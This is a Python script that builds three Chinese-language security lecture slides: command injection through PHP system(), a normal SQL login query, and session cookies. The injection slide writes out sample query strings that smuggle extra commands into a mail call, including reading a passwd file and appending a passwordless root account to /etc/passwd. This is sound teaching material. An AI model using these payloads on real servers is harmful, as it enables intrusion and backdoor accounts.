


from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

INK, SAND, PLUM = "40458C", "ECD882", "660066"
CHECK, VALUE, NORMAL = "6F89F7", "00B050", "00FF00"
FONT = "Lato"


def color(value):
    """Turn a hex string into a colour."""
    return RGBColor.from_string(value)


def write(frame, lines, size=20, ink=INK, bold=False, align=PP_ALIGN.LEFT,
          anchor=MSO_ANCHOR.TOP, wrap=True, spacing=None):
    """Fill a frame with lines, each a string or a list of (text, colour) runs."""
    frame.word_wrap = wrap
    frame.vertical_anchor = anchor
    for index, line in enumerate(lines):
        paragraph = frame.paragraphs[0] if index == 0 else frame.add_paragraph()
        paragraph.alignment = align
        if spacing:
            paragraph.line_spacing = Pt(spacing)
        for text, run_ink in [(line, ink)] if isinstance(line, str) else line:
            run = paragraph.add_run()
            run.text = text
            run.font.name = FONT
            run.font.size = Pt(size)
            run.font.bold = bold
            run.font.color.rgb = color(run_ink)


def label(slide, box, lines, rotation=0, **style):
    """Add a text box, turned by rotation degrees."""
    holder = slide.shapes.add_textbox(*map(Inches, box))
    holder.rotation = rotation
    write(holder.text_frame, lines, **style)
    return holder.text_frame


def panel(slide, box, lines=(), **style):
    """Add a sand rectangle with thin ink border and centred-height text."""
    block = slide.shapes.add_shape(MSO_SHAPE.RECTANGLE, *map(Inches, box))
    block.shadow.inherit = False
    block.fill.solid()
    block.fill.fore_color.rgb = color(SAND)
    block.line.color.rgb = color(INK)
    block.line.width = Pt(0.75)
    write(block.text_frame, lines, anchor=MSO_ANCHOR.MIDDLE, **style)


def arrow(slide, start, end, width=0.75, head="triangle"):
    """Draw an ink arrow from start to end."""
    link = slide.shapes.add_connector(
        MSO_CONNECTOR.STRAIGHT, *map(Inches, (*start, *end)))
    link.line.color.rgb = color(INK)
    link.line.width = Pt(width)
    SubElement(link.line._get_or_add_ln(), qn("a:tailEnd"), type=head)
    SubElement(link._element.spPr, qn("a:effectLst"))


def title(slide, text, size):
    """Add the plum slide title."""
    label(slide, (0.67, 0.33, 9, 0.92), [text], size=size, ink=PLUM,
          anchor=MSO_ANCHOR.BOTTOM)


def indent(paragraph, left, first=0):
    """Set the left margin and first-line indent of a paragraph."""
    properties = paragraph._p.get_or_add_pPr()
    properties.set("marL", str(Inches(left)))
    properties.set("indent", str(Inches(first)))
    return properties


def check_bullet(paragraph):
    """Give a paragraph a hanging check-mark bullet."""
    properties = indent(paragraph, 0.38, -0.38)
    tint = SubElement(properties, qn("a:buClr"))
    SubElement(tint, qn("a:srgbClr"), val=CHECK)
    SubElement(properties, qn("a:buSzPct"), val="110000")
    SubElement(properties, qn("a:buChar"), char="✓")


def outline(slide, box):
    """Write the checked points that introduce the code panels."""
    points = label(slide, box, ["例子: PHP服务器端发送邮件", "攻击者可以post", "或者"], size=24)
    example, attack, alternative = points.paragraphs
    check_bullet(example)
    attack.space_before = Pt(105)
    check_bullet(attack)
    alternative.space_before = Pt(101)
    indent(alternative, 0.3)


def injection_slide(slide):
    """Show code injection through system()."""
    title(slide, "使用system()的代码注入", 44)
    outline(slide, (0.92, 1.67, 8.75, 5.75))
    panel(slide, (1.42, 2.3, 7.73, 1.11), [
        "  $email = $_POST[“email”]",
        "  $subject = $_POST[“subject”]",
        "  system(“mail  $email –s  $subject < /tmp/joinmynetwork”)"])
    attacks = [
        (4.08, ["     email=hacker@hackerhome.net &",
                "     subject=foo < /usr/passwd; ls"]),
        (5.92, ["     email=hacker@hackerhome.net&subject=foo;",
                "     echo “evil::0:0:root:/:/bin/sh\">>/etc/passwd; ls"])]
    for top, query in attacks:
        panel(slide, (1.44, top, 7.73, 1.33),
              ["  http://yourdomain.com/mail.php?", *query])


def query_flow(slide, box):
    """Show a normal query passing from browser to server to database."""
    left, top, width, height = box
    server, database = left + 2.9, left + width - 1.39
    centred = {"bold": True, "align": PP_ALIGN.CENTER}
    tiers = [(left, 1.53, ["Web", "浏览器", "(客户端)"], 20),
             (server, 1.39, ["Web", "服务器"], 20),
             (database, 1.39, ["数据库"], 22)]
    for tier_left, tier_width, name, size in tiers:
        panel(slide, (tier_left, top, tier_width, height), name, size=size, **centred)

    label(slide, (left + 1.48, top - 0.03, 1.46, 1.01), ["输入用户名", "&", "密码"],
          size=18, wrap=False, **centred)
    label(slide, (server + 1.4, top + 0.16, 3.31, 1.67), [
        "SELECT * ", "FROM Users",
        [("WHERE user='", INK), ("me", VALUE), ("'", INK)],
        [("AND pwd='", INK), ("1234", VALUE), ("'", INK)]], spacing=28, **centred)
    label(slide, (left + 2.61, top + height + 0.31, 3.34, 0.64), ["正常的查询"],
          size=32, ink=NORMAL, **centred)

    flows = [(1.51, 2.93, 1.29, 0.75, "triangle"),
             (2.83, 1.54, 2.39, 0.75, "triangle"),
             (4.3, 7.61, 1.76, 1, "arrow"),
             (7.64, 4.3, 2.15, 1, "arrow")]
    for start, end, drop, weight, head in flows:
        arrow(slide, (left + start, top + drop), (left + end, top + drop), weight, head)


def cookie_exchange(slide, box):
    """Show the messages between the browser and server bars."""
    left, top, width, height = box
    bar = 1.58
    server = left + width - bar
    for bar_left, name in [(left, "浏览器"), (server, "服务器")]:
        panel(slide, (bar_left, top, bar, height))
        label(slide, (bar_left + 0.27, top - 0.53, 1.04, 0.44), [name], wrap=False)

    request = (left + 0.75, server)
    reply = (server + 0.84, left + bar)
    for (start, end), drop in [(request, 0.16), (reply, 1.41),
                               (request, 2.9), (reply, 3.83)]:
        arrow(slide, (start, top + drop), (end, top + drop + 0.5), 3)

    messages = [((2.4, -0.09, 2.35, 0.5), 5.8, ["POST/login.cgi"], None),
                ((1.56, 1.08, 3.9, 0.5), -5.4, ["Set-cookie: authenticator"], None),
                ((2.13, 2.54, 2.86, 0.66), 6.7, ["GET…", "Cookie: authenticator"], 20),
                ((2.88, 3.61, 1.31, 0.44), -5.4, ["response"], None)]
    for (across, drop, wide, high), rotation, lines, spacing in messages:
        label(slide, (left + across, top + drop, wide, high), lines,
              rotation=rotation, spacing=spacing)


def session_slide(slide):
    """Show how a session uses cookies."""
    title(slide, "session利用cookies", 40)
    cookie_exchange(slide, (1.42, 2.36, 6.99, 4.5))


def main():
    """Build and save the three slides."""
    deck = Presentation()
    deck.slide_width, deck.slide_height = Inches(10), Inches(7.5)
    blank = deck.slide_layouts[6]
    injection_slide(deck.slides.add_slide(blank))
    query_flow(deck.slides.add_slide(blank), (0.5, 2.01, 9, 2.63))
    session_slide(deck.slides.add_slide(blank))
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
